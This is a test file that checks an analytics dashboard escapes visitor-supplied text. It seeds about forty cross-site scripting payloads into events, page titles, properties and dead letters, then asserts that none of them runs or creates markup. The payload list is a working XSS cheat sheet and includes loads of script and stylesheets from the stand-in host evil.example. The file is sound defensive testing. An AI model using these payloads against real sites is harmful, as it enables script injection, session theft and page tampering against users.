import { afterAll, beforeAll, expect, test } from 'vitest'
import { type ServedDashboard, servedDashboard } from './opened-page.ts'

const attack = 'window.hacked=true'
/** Markup that runs where it is read as markup: by tag, handler, address, template, comment, style, namespace and encoding. */
const payloads = [
  `<script>${attack}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `</script><script>${attack}</script>`,
  `</title><script>${attack}</script>`,
  `</textarea><script>${attack}</script>`,
  `</td></tr></table><iframe srcdoc="<script>parent.hacked=true</script>">`,
  `<img src=x onerror="${attack}">`,
  `<img src=x onerror=${attack}//`,
  `<img src="x\`\`onerror=${attack}">`,
  `<svg onload=${attack}>`,
  `"><svg/onload=${attack}>`,
  `'><svg onload='${attack}'>`,
  `<svg><script>${attack}</script></svg>`,
  `<svg><animate onbegin=${attack} attributeName=x dur=1s>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${attack}>`,
  `<body onload=${attack}>`,
  `<video><source onerror="${attack}">`,
  `<audio src=x onerror=${attack}>`,
  `<details open ontoggle=${attack}>`,
  `<input autofocus onfocus=${attack}>`,
  `<select autofocus onfocus=${attack}>`,
  `<marquee onstart=${attack}>`,
  `<a href="javascript:${attack}" autofocus onfocus=${attack}>x</a>`,
  `<iframe src="javascript:parent.hacked=true">`,
  `<object data="javascript:${attack}">`,
  `<embed src="data:text/html,<script>opener.hacked=true</script>">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${attack}">`,
  `<base href="//evil.example/">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import '//evil.example/x.css';</style>`,
  `<form action="javascript:${attack}"><button autofocus>x</button></form>`,
  `<template><script>${attack}</script></template>`,
  `<!--><script>${attack}</script>-->`,
  `<![CDATA[<script>${attack}</script>]]>`,
  `<noscript><p title="</noscript><img src=x onerror=${attack}>">`,
  `&lt;script&gt;${attack}&lt;/script&gt;`,
  `{{constructor.constructor('${attack}')()}}`,
  `\${${attack}}`,
  `'-${attack}-'`,
  `";${attack};//`,
  `javascript:${attack}`,
  `red;background:url(//evil.example/x)`,
  `__proto__`,
]

let served: ServedDashboard

beforeAll(async () => {
  served = await servedDashboard({
    deadLetters: async () =>
      payloads.map((text, partition) => ({
        sink: text,
        reason: text,
        partition,
        letters: 1,
        waiting: 1,
        firstMs: 0,
        lastMs: 0,
        example: { name: text, message: text },
      })),
  })
  const timeMs = Date.now()
  await served.folder.land(
    // As a page view and as an event of its own: the one fills the pages, the other the events.
    payloads.flatMap(text =>
      [text, 'page_view'].map(action => ({
        timeMs,
        action,
        path: text,
        browser: text,
        title: text,
        user: { name: text },
        properties: { color: text, [text]: text },
      })),
    ),
  )
}, 60_000)
afterAll(() => served.close(), 60_000)

const rooms = [
  // Where a list is cut at 8 names, some of them is enough.
  ['#overview?range=hour', ['#pages', '#actions', '#colors', '#browsers'], 7],
  ['#pages?range=hour', ['#page-list'], payloads.length],
  ['#events?range=hour', ['#action-list'], payloads.length],
  ['#audience?range=hour', ['#all-browsers'], 20],
  ['#live?range=hour', ['#latest'], 20],
  ['#letters', ['#dead-letters'], payloads.length],
] as const

test.each(rooms)('%s keeps what visitors sent text', { timeout: 60_000 }, async (hash, places, least) => {
  const { page, complaints } = await served.open(hash)
  for (const place of places) {
    await page.locator(place, { hasText: 'hacked' }).waitFor()
    const shown = (await page.locator(place).textContent()) ?? ''
    expect(payloads.filter(text => shown.includes(text)).length).toBeGreaterThanOrEqual(least)
  }
  const made = 'script, iframe, svg, img, object, embed, base, form, style, [onerror], [onload], [onfocus], [srcdoc]'
  expect(await page.locator('#room').locator(made).count()).toBe(0)
  expect(await page.locator('#room a:not([href*="#events"])').count()).toBe(0)
  expect(await page.evaluate('window.hacked')).toBeUndefined()
  expect(complaints).toEqual([])
})

test('any event, any property and any answer of the SQL box are text', { timeout: 60_000 }, async () => {
  const { page, complaints } = await served.open()
  for (const text of payloads.slice(0, 8)) {
    await page.goto(`${served.url}#events?range=hour&action=${encodeURIComponent(text)}&property=color`)
    await page.locator('#values', { hasText: text }).waitFor()
  }
  await page.goto(`${served.url}#sql?sql=${encodeURIComponent(payloads[6] ?? '')}`)
  await page.fill('#sql', 'SELECT url.path, page.title, properties FROM events')
  await page.press('#sql', 'Control+Enter')
  await page.locator('#sql-answer tbody tr').first().waitFor()
  const answer = (await page.locator('#sql-answer').textContent()) ?? ''
  expect(payloads.filter(text => !answer.includes(text))).toEqual([])
  expect(await page.evaluate('window.hacked')).toBeUndefined()
  expect(complaints).toEqual([])
})
